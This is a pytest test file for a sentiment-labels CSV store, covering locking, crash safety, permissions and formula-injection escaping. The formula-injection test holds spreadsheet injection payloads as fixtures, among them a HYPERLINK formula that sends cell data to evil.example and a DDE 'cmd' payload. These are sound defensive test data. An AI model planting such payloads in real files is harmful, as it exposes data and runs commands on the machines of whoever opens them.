"""The labels store: no label lost when processes save at once, old-or-new after a kill, normal
permissions, nothing written into the client's export folder, formula-safe cells (issue 18: 1, 2, 20)."""
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest

from sermo_helpers import paths
from sermo_helpers.config import validate_client_config
from sermo_helpers.errors import LoadError
from sermo_helpers.labels import LABEL_COLUMNS, labels_path, read_sentiment_labels, save_sentiment_labels
from sermo_helpers.loaders import load_client

ROOT = Path(__file__).resolve().parents[1]


def one_label(mention_id: str, label: str = "positive") -> pd.DataFrame:
    return pd.DataFrame({"mention_id": [mention_id], "text": [f"text of {mention_id}"], "label": [label]})


def run_python(code: str, *, check: bool = True) -> subprocess.CompletedProcess:
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], env=environment, capture_output=True,
                          text=True, check=check, timeout=300)


WRITER = """
    import sys
    import pandas as pd
    from sermo_helpers.labels import save_sentiment_labels

    path, writer, saves = sys.argv[1], sys.argv[2], int(sys.argv[3])
    for number in range(saves):
        save_sentiment_labels(pd.DataFrame({"mention_id": [f"{writer}-{number}"], "text": ["t"],
                                            "label": ["negative"]}), path, reviewer=writer)
"""


def run_writers(path: Path, *, writers: int, saves: int) -> pd.DataFrame:
    """``writers`` processes each saving ``saves`` labels one at a time into ``path``; what is saved after."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    processes = [subprocess.Popen([sys.executable, "-c", textwrap.dedent(WRITER), str(path), f"w{index}",
                                   str(saves)], env=environment, stderr=subprocess.PIPE, text=True)
                 for index in range(writers)]
    for process in processes:
        assert process.wait(timeout=900) == 0, process.stderr.read()
    saved = read_sentiment_labels(path)
    assert sorted(p.name for p in path.parent.iterdir()) == [".sentiment_labels.csv.lock", "sentiment_labels.csv"]
    return saved


@pytest.mark.slow
def test_four_writers_saving_200_labels_each_keep_all_800(tmp_path):
    # Before the lock, two writers of 300 labels each kept 343-383 of 600 (issue 18, item 1).
    saved = run_writers(tmp_path / "labels" / "sentiment_labels.csv", writers=4, saves=200)
    assert len(saved) == 800
    assert set(saved["mention_id"]) == {f"w{index}-{number}" for index in range(4) for number in range(200)}
    assert saved.groupby("reviewer").size().to_dict() == {"w0": 200, "w1": 200, "w2": 200, "w3": 200}


def test_two_writers_saving_at_once_keep_every_label(tmp_path):
    saved = run_writers(tmp_path / "sentiment_labels.csv", writers=2, saves=40)
    assert saved.groupby("reviewer").size().to_dict() == {"w0": 40, "w1": 40}
    assert set(saved["mention_id"]) == {f"w{index}-{number}" for index in range(2) for number in range(40)}


def test_saved_file_has_the_users_normal_permissions(tmp_path):
    # Every save used to leave the file with mode 0600 (a private temporary file moved into place).
    path = tmp_path / "sentiment_labels.csv"
    previous = os.umask(0o022)
    try:
        save_sentiment_labels(one_label("1"), path)
        save_sentiment_labels(one_label("2"), path)
        assert path.stat().st_mode & 0o777 == 0o644
        os.umask(0o027)
        save_sentiment_labels(one_label("3"), path)
        assert path.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(previous)


def test_a_save_killed_before_the_replace_leaves_the_old_file_and_the_next_save_cleans_up(tmp_path):
    path = tmp_path / "sentiment_labels.csv"
    save_sentiment_labels(one_label("1"), path)
    before = path.read_bytes()
    killed = run_python(f"""
        import os, signal
        import pandas as pd
        import sermo_helpers.labels as store

        def die(*arguments):  # the temporary file is complete; the process dies before moving it
            os.kill(os.getpid(), signal.SIGKILL)

        store.os.replace = die
        store.save_sentiment_labels(pd.DataFrame({{"mention_id": ["2"], "text": ["t"], "label": ["neutral"]}}),
                                    {str(path)!r})
    """, check=False)
    assert killed.returncode == -signal.SIGKILL
    assert path.read_bytes() == before  # the old file, whole
    leftovers = list(tmp_path.glob(".sentiment_labels.csv.*.tmp"))
    assert len(leftovers) == 1 and leftovers[0].stat().st_size > 0
    saved = save_sentiment_labels(one_label("3"), path)
    assert saved["mention_id"].tolist() == ["1", "3"]
    assert not list(tmp_path.glob("*.tmp"))


@pytest.mark.slow
def test_a_save_killed_at_random_moments_leaves_the_old_or_the_new_file(tmp_path):
    path = tmp_path / "sentiment_labels.csv"
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    import random

    chance = random.Random(18)
    for _ in range(5):
        writer = subprocess.Popen([sys.executable, "-c", textwrap.dedent(WRITER), str(path), "k", "100000"],
                                  env=environment, stderr=subprocess.DEVNULL)
        try:
            writer.wait(timeout=1.5 + chance.random())  # about 1 s of imports, then saving
        except subprocess.TimeoutExpired:
            writer.send_signal(signal.SIGKILL)
            writer.wait()
        saved = read_sentiment_labels(path)  # parses: never half a file
        numbers = sorted(int(mention_id.split("-")[1]) for mention_id in saved["mention_id"])
        assert numbers == list(range(len(numbers)))  # every earlier save is in it, in order
    save_sentiment_labels(one_label("last"), path)
    assert not list(tmp_path.glob("*.tmp"))


def test_labels_saved_for_a_client_never_stop_its_data_from_loading(minimal_config, tmp_path, monkeypatch):
    # The labels file (and temporary files) in the data folder were read as mentions: SchemaError.
    monkeypatch.setattr(paths, "editions_dir", lambda: tmp_path / "editions")
    folder = tmp_path / "data" / "testby"
    folder.mkdir(parents=True)
    (folder / "mentions.csv").write_text("mention_id,published_at,channel,author,text,reach\n"
                                         "m-1,2026-04-01T09:30:00+02:00,x,Ola,Hei,10\n", encoding="utf-8")
    client = validate_client_config({**minimal_config, "data_folder": str(folder)}, source="test")
    before = sorted(folder.rglob("*"))
    save_sentiment_labels(one_label("m-1"), labels_path(client))
    assert sorted(folder.rglob("*")) == before  # nothing written into the client's export folder
    assert labels_path(client).is_file()
    data = load_client(client, use_cache=False)
    assert data.mentions["mention_id"].tolist() == ["m-1"]


def test_formula_cells_are_neutralised_in_the_file_and_read_back_unchanged(tmp_path):
    path = tmp_path / "sentiment_labels.csv"
    hostile = pd.DataFrame({"mention_id": ['=HYPERLINK("http://evil.example/?x="&A1,"klikk")', "@SUM(1+1)", "7"],
                            "text": ["+cmd|' /C calc'!A0", "-2+3", "\tnormal? =1+1"],
                            "language": ["\r=1", "'quoted", "nb"],
                            "label": ["negative", "neutral", "positive"]})
    save_sentiment_labels(hostile, path, reviewer="=evil()")
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    for line in lines[1:]:
        for start in ("=", "+", "-", "@", "\t", "\r"):
            assert not line.startswith(start) and f",{start}" not in line and f',"{start}' not in line
    assert lines[1].startswith("\"'=HYPERLINK(")
    saved = read_sentiment_labels(path)
    for column in ("mention_id", "text", "language", "label"):
        assert saved[column].tolist() == hostile[column].tolist()
    assert saved["reviewer"].tolist() == ["=evil()"] * 3


def test_reviewer_and_time_are_recorded(tmp_path, monkeypatch):
    path = tmp_path / "sentiment_labels.csv"
    monkeypatch.setenv("SERMO_REVIEWER", "kari")
    saved = save_sentiment_labels(one_label("1"), path)
    assert saved.columns.tolist() == LABEL_COLUMNS
    assert saved.loc[0, "reviewer"] == "kari"
    assert pd.Timestamp(saved.loc[0, "labelled_at"]).tzinfo is not None
    assert save_sentiment_labels(one_label("2"), path, reviewer="ola")["reviewer"].tolist() == ["kari", "ola"]


def test_a_file_without_reviewer_still_reads(tmp_path):
    path = tmp_path / "sentiment_labels.csv"
    path.write_text("mention_id,text,language,predicted,label,labelled_at\n1,a,nb,positive,positive,x\n",
                    encoding="utf-8")
    assert read_sentiment_labels(path)["reviewer"].tolist() == [""]


def test_a_long_bad_label_is_not_echoed_whole(tmp_path):
    path = tmp_path / "sentiment_labels.csv"
    path.write_text(",".join(LABEL_COLUMNS) + "\n1,a,nb,positive," + "x" * 100_000 + ",t,r\n", encoding="utf-8")
    with pytest.raises(LoadError) as error:
        read_sentiment_labels(path)
    assert len(str(error.value)) < 400
